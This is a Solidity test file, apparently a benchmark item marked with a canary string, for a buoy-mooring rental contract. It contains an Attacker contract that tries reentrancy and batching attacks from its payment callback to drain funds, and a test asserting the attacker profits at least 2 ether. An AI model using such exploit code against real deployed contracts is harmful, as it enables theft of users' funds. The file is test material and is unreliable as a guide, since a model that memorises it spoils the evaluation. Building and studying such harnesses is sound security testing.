// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./SkerryBuoys.sol";

// assay-canary-e3972540-072a-445b-8441-80f6880ecebb

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// A skipper with a contract for a purse. Tries everything that a call back in the middle of a payment allows.
contract Attacker {
    SkerryBuoys internal buoys;
    uint256 internal mode;
    uint256 internal depth;
    uint256 internal at;
    Mate internal mate;

    constructor(SkerryBuoys buoys_) {
        buoys = buoys_;
        mate = new Mate(buoys_);
    }

    receive() external payable {
        if (msg.sender != address(buoys) || depth >= 3) return;
        ++depth;
        if (mode == 1) _try(abi.encodeCall(buoys.castOff, (at)), 0);
        if (mode == 2) {
            _try(abi.encodeCall(buoys.handOver, (at, address(mate))), 0);
            mate.castOff(at);
        }
        if (mode == 3) _try(abi.encodeCall(buoys.lengthen, (at, 2)), 2 * uint256(buoys.nightly()));
        if (mode == 4) _try(abi.encodeCall(buoys.clear, (at)), 0);
        if (mode == 5) _try(abi.encodeCall(buoys.moor, (at, 1)), buoys.nightly() + 1 ether);
    }

    function _try(bytes memory data, uint256 value) internal returns (bool ok) {
        (ok, ) = address(buoys).call{value: value}(data);
    }

    function _stay(uint256 how) internal returns (bool) {
        mode = how;
        depth = 0;
        at = 10 + how;
        return _try(abi.encodeCall(buoys.moor, (at, 4)), 4 * uint256(buoys.nightly()) + 1 ether);
    }

    function early() external {
        for (uint256 how = 1; how <= 5; ++how) {
            if (_stay(how)) _try(abi.encodeCall(buoys.castOff, (at)), 0);
            mode = 0;
            _try(abi.encodeCall(buoys.castOff, (at)), 0);
        }
        // two departures from one buoy in one call
        if (_stay(6)) {
            bytes[] memory calls = new bytes[](2);
            calls[0] = abi.encodeCall(buoys.castOff, (at));
            calls[1] = calls[0];
            _try(abi.encodeCall(buoys.together, (calls)), 0);
            // one payment for two buoys
            calls[0] = abi.encodeCall(buoys.moor, (20, 1));
            calls[1] = abi.encodeCall(buoys.moor, (21, 1));
            _try(abi.encodeCall(buoys.together, (calls)), buoys.nightly() + 1 ether);
            _try(abi.encodeCall(buoys.castOff, (at)), 0);
        }
        // other people's
        for (uint256 b = 0; b < 6; ++b) {
            _try(abi.encodeCall(buoys.castOff, (b)), 0);
            _try(abi.encodeCall(buoys.handOver, (b, address(this))), 0);
            _try(abi.encodeCall(buoys.clear, (b)), 0);
        }
        _try(abi.encodeCall(buoys.collect, (address(this))), 0);
        // to be overdue later
        _stay(4);
    }

    function late() external {
        depth = 0;
        mode = 4;
        at = 14;
        _try(abi.encodeCall(buoys.clear, (at)), 0);
        _try(abi.encodeCall(buoys.castOff, (at)), 0);
    }
}

contract Mate {
    SkerryBuoys internal buoys;
    address internal boss;

    constructor(SkerryBuoys buoys_) {
        buoys = buoys_;
        boss = msg.sender;
    }

    receive() external payable {}

    function castOff(uint256 at) external {
        (bool ok, ) = address(buoys).call(abi.encodeCall(buoys.castOff, (at)));
        if (ok) payable(boss).transfer(address(this).balance);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    SkerryBuoys private buoys;
    Attacker private corsair;
    address private constant TORA = address(0x70A);

    receive() external payable {}

    function setUp() public {
        vm.warp(1_760_000_000);
        vm.deal(address(this), 50 ether);
        buoys = new SkerryBuoys(24, 0.1 ether);
        corsair = new Attacker(buoys);
        vm.deal(address(corsair), 4 ether);
        vm.deal(TORA, 10 ether);
        for (uint256 b = 0; b < 6; ++b) {
            buoys.moor{value: 3 ether}(b, 20);
        }
    }

    function test_Regular() public {
        vm.prank(TORA);
        buoys.moor{value: 1.5 ether}(7, 5);
        vm.prank(TORA);
        (bool ok, ) = address(buoys).call{value: 1.5 ether}(abi.encodeCall(buoys.moor, (7, 5)));
        require(!ok, "taken");
        vm.prank(TORA);
        buoys.lengthen{value: 0.2 ether}(7, 2);
        vm.warp(block.timestamp + 2.5 days);
        vm.prank(TORA);
        require(buoys.castOff(7) == 1.4 ether, "four nights and the caution");
        require(TORA.balance == 9.7 ether && buoys.takings() == 0.3 ether, "three nights earned");

        vm.prank(TORA);
        buoys.moor{value: 1.1 ether}(8, 1);
        vm.prank(TORA);
        buoys.handOver(8, address(this));
        (ok, ) = address(buoys).call(abi.encodeCall(buoys.clear, (8)));
        require(!ok, "not overdue");
        vm.warp(block.timestamp + 1 days + 1 hours);
        require(buoys.castOff(8) == 0.9 ether, "a day late");

        vm.prank(TORA);
        buoys.moor{value: 1.1 ether}(8, 1);
        vm.warp(block.timestamp + 4 days + 1);
        uint256 before = address(this).balance;
        buoys.clear(8);
        require(address(this).balance == before + 0.25 ether, "reward");
        require(buoys.takings() == 0.5 ether + 0.85 ether, "takings");
        bytes[] memory calls = new bytes[](2);
        calls[0] = abi.encodeCall(buoys.setNightly, (0.2 ether));
        calls[1] = abi.encodeCall(buoys.collect, (address(this)));
        buoys.together(calls);
        require(buoys.takings() == 0 && buoys.nightly() == 0.2 ether, "collected");
        require(address(buoys).balance == 18 ether, "what was paid for six buoys");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A stay is its skipper's, and the takings the harbourmaster's.
    function test_RefusesStrangers() public {
        bytes memory notHis = abi.encodeWithSelector(SkerryBuoys.NotMooredBy.selector, TORA);
        refuses(TORA, notHis);
        buoys.lengthen{value: 0.2 ether}(0, 2);
        refuses(TORA, notHis);
        buoys.handOver(0, TORA);
        refuses(TORA, SkerryBuoys.HarbourmasterOnly.selector);
        buoys.collect(TORA);
        refuses(TORA, SkerryBuoys.HarbourmasterOnly.selector);
        buoys.setNightly(1);
        bytes[] memory calls = new bytes[](1);
        calls[0] = abi.encodeCall(buoys.setNightly, (1));
        refuses(TORA, SkerryBuoys.HarbourmasterOnly.selector);
        buoys.together(calls);
    }

    /// Buoys, nights and fees that are none.
    function test_RefusesStays() public {
        bytes4 nights = SkerryBuoys.BadNumberOfNights.selector;
        vm.expectRevert(abi.encodeWithSelector(SkerryBuoys.NoSuchBuoy.selector, 24));
        buoys.moor{value: 1.1 ether}(24, 1);
        vm.expectRevert(abi.encodeWithSelector(nights, 0));
        buoys.moor{value: 1 ether}(9, 0);
        vm.expectRevert(abi.encodeWithSelector(nights, 31));
        buoys.moor{value: 4.1 ether}(9, 31);
        vm.expectRevert(abi.encodeWithSelector(SkerryBuoys.NotTheFee.selector, 1.1 ether));
        buoys.moor{value: 1 ether}(9, 1);
        vm.expectRevert(abi.encodeWithSelector(nights, 11));
        buoys.lengthen{value: 1.1 ether}(0, 11);
        vm.expectRevert(abi.encodeWithSelector(SkerryBuoys.NotTheFee.selector, 0.2 ether));
        buoys.lengthen(0, 2);
        vm.expectRevert(abi.encodeWithSelector(SkerryBuoys.NotMooredBy.selector, address(0)));
        buoys.handOver(0, address(0));
        vm.expectRevert(abi.encodeWithSelector(SkerryBuoys.NotYetOverdue.selector, 0));
        buoys.clear(9);
        vm.expectRevert(abi.encodeWithSelector(SkerryBuoys.PaymentRefused.selector, address(buoys)));
        buoys.collect(address(buoys));
    }

    function exploit() public {
        corsair.early();
        vm.warp(block.timestamp + 8 days);
        corsair.late();
    }

    function test_Exploit() public {
        uint256 before = address(corsair).balance;
        exploit();
        require(address(corsair).balance >= before + 2 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(buoys);
    }

    function attacker() public view returns (address) {
        return address(corsair);
    }
}
